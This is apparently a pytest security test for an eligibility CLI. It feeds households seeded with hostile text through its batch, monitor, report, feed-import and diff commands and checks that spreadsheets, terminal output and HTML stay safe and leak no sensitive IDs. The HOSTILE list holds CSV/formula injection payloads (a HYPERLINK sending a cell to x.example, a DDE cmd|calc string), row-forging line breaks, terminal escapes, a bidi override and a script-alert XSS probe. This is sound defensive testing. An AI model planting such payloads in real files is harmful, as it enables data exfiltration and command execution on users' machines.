"""Hostile text through the newer outputs, end to end on the command line (issue 13 §5, §6).

The households of ``examples/monitor`` with names, ids and a village text a careless exporter or an
attacker could send — spreadsheet formulas (``=`` ``+`` ``-`` ``@``, also after a tab or CR), line
breaks that would forge rows, terminal escapes, bidi overrides, HTML — and fixed marker values for the
sensitive fields, plus corrupted lines that carry those markers. Each command runs once, in a real
subprocess, on real files and a real SQLite store:

* ``eligibility batch`` to CSV, Excel and JSON Lines (decisions, errors, summary);
* ``eligibility monitor run`` (the month's lists, CSV and Excel) and ``eligibility report`` (HTML);
* ``eligibility feeds import`` (the per-record outcome report: leads, unmatched, ambiguous, errors);
* ``eligibility diff`` (the what-if report, Markdown on the terminal, CSV and Excel).

Properties: no spreadsheet cell can run (CSV: no cell begins with a formula character, no cell holds a
line break; Excel: no formula element in any sheet, no shared string beginning with one), terminal output
holds no escape or bidi character and no forged line, the HTML report escapes the names, and no ID
number, mobile number or bank account appears in any output, error or log line (the feed's own ID numbers
included: a feed report names a record by its line).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from .corrupt import BANK, FUZZ_EXAMPLES, ID_NUMBER, PHONE

ROOT = Path(__file__).resolve().parents[2]
MONTH = ROOT / "examples" / "monitor" / "2023-09.jsonl"
AS_OF = "2023-09-30"
SENSITIVE = (ID_NUMBER, PHONE, BANK)

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "王\n伪造,行,=1",
    "李\r\n2,340602001001,=2",
    "\x1b[2J\x1b[31m红",
    "\u202e张三",
    "<script>alert(1)</script>",
]
"""Text values put in names, household ids and village-level text."""

pytestmark = pytest.mark.skipif(
    FUZZ_EXAMPLES < 100, reason="about two minutes of subprocesses: runs in `make fuzz`, not in `make test`"
)

FORMULA = re.compile(r"^[ \t\r]*[=+\-@]")
"""A cell a spreadsheet would run (leading whitespace included: an import may trim it)."""


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "ELIGIBILITY_ID_KEY": "fuzz-key-0123456789abcdef"}
    cmd = [sys.executable, "-m", "eligibility.cli", *args]
    return subprocess.run(
        cmd, capture_output=True, text=True, encoding="utf-8", env=env, cwd=cwd, timeout=600, check=False
    )


def _hostile_households() -> list[str]:
    """The month's households with hostile text and marker values, and two corrupted lines carrying markers."""
    lines = []
    for i, raw in enumerate(MONTH.read_text(encoding="utf-8").splitlines()):
        h = json.loads(raw)
        text = HOSTILE[i % len(HOSTILE)]
        h["household_id"] = f"{text}#{i}" if i % 2 else h["household_id"]
        h["bank_account"] = BANK
        for m in h.get("members") or []:
            m["name"] = HOSTILE[(i + int(m["member_id"])) % len(HOSTILE)]
            m["id_number"], m["phone"] = ID_NUMBER, PHONE
        lines.append(json.dumps(h, ensure_ascii=False))
    bad = json.loads(lines[0])
    bad["household_id"] = "BAD-1"
    bad["income"]["wage"] = "14_000"
    bad["members"][0]["birth_date"] = PHONE  # a mobile number where a date goes
    bad["members"][0][ID_NUMBER] = BANK  # an ID number exported as a column name, a bank account its value
    lines.append(json.dumps(bad, ensure_ascii=False))
    lines.append(json.dumps(bad, ensure_ascii=False).replace('"BAD-1"', '"BAD-2"').replace('"14_000"', "NaN"))
    return lines


@dataclass
class Outputs:
    folder: Path
    runs: dict[str, subprocess.CompletedProcess[str]]

    def files(self, *suffixes: str) -> list[Path]:
        """The files the commands wrote (not their inputs under ``in/``)."""
        inputs = self.folder / "in"
        return sorted(
            p for p in self.folder.rglob("*") if p.is_file() and p.suffix in suffixes and inputs not in p.parents
        )


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Outputs:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    households = folder / "in" / "households.jsonl"
    households.write_text("\n".join(_hostile_households()) + "\n", encoding="utf-8")
    feed = folder / "in" / "医保.csv"
    feed.write_text(
        "身份证件号码,姓名,数据日期,合规自付金额\n"
        f"{ID_NUMBER},=1+1,2023-09-10,25000\n"  # every member of the month carries this ID: ambiguous
        f"110101199001011234,@SUM(A1),2023-09-11,3000\n"  # nobody in the store: unmatched
        f"{ID_NUMBER},-3,2023-09-31,100\n"  # no 31 September: an error
        f"{PHONE},\t=2,2023-09-12,{BANK}\n",  # a phone number where the ID goes, a bank account as money
        encoding="utf-8",
    )
    db = str(folder / "store.db")
    runs = {}
    for suffix in ("csv", "xlsx", "jsonl"):
        out = folder / f"batch-{suffix}" / f"decisions.{suffix}"
        out.parent.mkdir()
        runs[f"batch {suffix}"] = _cli(
            "batch", str(households), "--as-of", AS_OF, "-o", str(out), "--summary", str(out.parent / "summary.csv"),
            cwd=folder,
        )  # fmt: skip
    runs["monitor csv"] = _cli(
        "monitor", "run", str(households), "--as-of", AS_OF, "--db", db, "-o", str(folder / "lists-csv"),
        "--format", "csv", cwd=folder,
    )  # fmt: skip
    runs["monitor xlsx"] = _cli(
        "monitor", "run", str(households), "--as-of", AS_OF, "--db", db, "-o", str(folder / "lists-xlsx"), cwd=folder
    )
    runs["feeds"] = _cli(
        "feeds", "import", str(feed), "--kind", "medical", "--db", db, "-o", str(folder / "feed-report.csv"),
        cwd=folder,
    )  # fmt: skip
    runs["report"] = _cli("report", "--db", db, "--as-of", AS_OF, "-o", str(folder / "report.html"), cwd=folder)
    later = "2024-09-30"
    for suffix in ("md", "csv", "xlsx"):
        runs[f"diff {suffix}"] = _cli(
            "diff", str(ROOT / "rules"), "--population", str(households), "--as-of", AS_OF, "--vs-as-of", later,
            "-o", str(folder / f"diff.{suffix}"), cwd=folder,
        )  # fmt: skip
    runs["diff terminal"] = _cli(
        "diff", str(ROOT / "rules"), "--population", str(households), "--as-of", AS_OF, "--vs-as-of", later, cwd=folder
    )
    return Outputs(folder, runs)


def test_every_command_ran_without_a_traceback(outputs: Outputs) -> None:
    for name, run in outputs.runs.items():
        assert "Traceback" not in run.stderr, (name, run.stderr[-2000:])
        assert run.returncode in (0, 1), (name, run.returncode, run.stderr[-2000:])
    for name in ("batch csv", "batch xlsx", "batch jsonl"):
        assert re.search(r"rows: [\d,]+ decisions, 2 errors", outputs.runs[name].stdout + outputs.runs[name].stderr)


def _csv_cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _bad_cells(cells: list[str]) -> list[str]:
    return [c for c in cells if FORMULA.match(c) or "\n" in c or "\r" in c]


def test_batch_csv_cells_cannot_run_or_forge_rows(outputs: Outputs) -> None:
    files = outputs.files(".csv")
    batch = [p for p in files if p.parent.name.startswith("batch-")]
    assert batch and all(_csv_cells(p) for p in batch)
    for path in batch:
        assert not _bad_cells(_csv_cells(path)), path


def test_the_what_if_report_cells_cannot_run_or_forge_rows(outputs: Outputs) -> None:
    cells = _csv_cells(outputs.folder / "diff.csv")
    assert any("#" in c for c in cells)  # the hostile households are there
    assert not _bad_cells(cells)
    assert _excel_problems(outputs.folder / "diff.xlsx") == []


def test_monitor_list_cells_cannot_run_or_forge_rows(outputs: Outputs) -> None:
    lists = [p for p in outputs.files(".csv") if p.parent.name == "lists-csv"]
    assert lists
    for path in lists:
        assert not _bad_cells(_csv_cells(path)), path
    for path in (p for p in outputs.files(".xlsx") if p.parent.name == "lists-xlsx"):
        assert _excel_problems(path) == [], path


def test_the_feed_report_cells_cannot_run_or_forge_rows(outputs: Outputs) -> None:
    assert not _bad_cells(_csv_cells(outputs.folder / "feed-report.csv"))


def _excel_problems(path: Path) -> list[str]:
    """Formulas in any sheet, and shared or inline strings a spreadsheet would take for one."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.endswith(".xml"):
                continue
            xml = z.read(name).decode("utf-8")
            if name.startswith("xl/worksheets/") and re.search(r"<f[ >]", xml):
                found.append(f"{name}: formula")
            for text in re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", xml):
                if FORMULA.match(text):
                    found.append(f"{name}: {text[:40]}")
    return found


def test_batch_excel_has_no_formula(outputs: Outputs) -> None:
    books = [p for p in outputs.files(".xlsx") if p.parent.name.startswith("batch-")]
    assert books
    for path in books:
        assert _excel_problems(path) == [], path


def test_no_sensitive_value_in_any_output_error_or_log(outputs: Outputs) -> None:
    texts = {str(p): p.read_bytes().decode("utf-8", "replace") for p in outputs.files(".csv", ".jsonl", ".md", ".html")}
    for p in outputs.files(".xlsx"):
        with zipfile.ZipFile(p) as z:
            texts[str(p)] = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))
    for name, run in outputs.runs.items():
        texts[f"{name} stdout"], texts[f"{name} stderr"] = run.stdout, run.stderr
    assert len(texts) > 20
    leaks = [(where, value) for where, text in texts.items() for value in SENSITIVE if value in text]
    assert leaks == []


RUNS = [
    "batch csv", "batch xlsx", "batch jsonl", "monitor csv", "monitor xlsx", "report", "diff md", "diff csv",
    "diff xlsx", "diff terminal", "feeds",
]  # fmt: skip


@pytest.mark.parametrize("name", RUNS)
def test_terminal_output_has_no_escapes_and_no_forged_line(outputs: Outputs, name: str) -> None:
    run = outputs.runs[name]
    for text in (run.stdout, run.stderr):
        assert "\x1b" not in text and "\u202e" not in text and "\r" not in text
        assert not any(line.startswith(("伪造", "2,3406")) for line in text.splitlines())
    if name == "diff terminal":
        table = [line for line in run.stdout.splitlines() if line.startswith("|")]
        assert table and all(line.endswith("|") for line in table)  # no row broken by a name's line break


def test_the_html_report_escapes_household_text(outputs: Outputs) -> None:
    html = (outputs.folder / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html


def test_a_sensitive_value_as_a_records_date_is_not_echoed_by_batch(tmp_path: Path) -> None:
    """A careless export puts a mobile number where a record's ``as_of`` goes: one error, not quoted."""
    h = json.loads(MONTH.read_text(encoding="utf-8").splitlines()[0])
    path = tmp_path / "h.jsonl"
    path.write_text(json.dumps({"as_of": PHONE, "household": h}, ensure_ascii=False) + "\n", encoding="utf-8")
    run = _cli("batch", str(path), "-o", str(tmp_path / "d.csv"), cwd=tmp_path)
    assert "Traceback" not in run.stderr
    written = "".join(p.read_text(encoding="utf-8-sig") for p in tmp_path.glob("d*.csv"))
    assert "bad_date" in written
    assert PHONE not in written + run.stdout + run.stderr
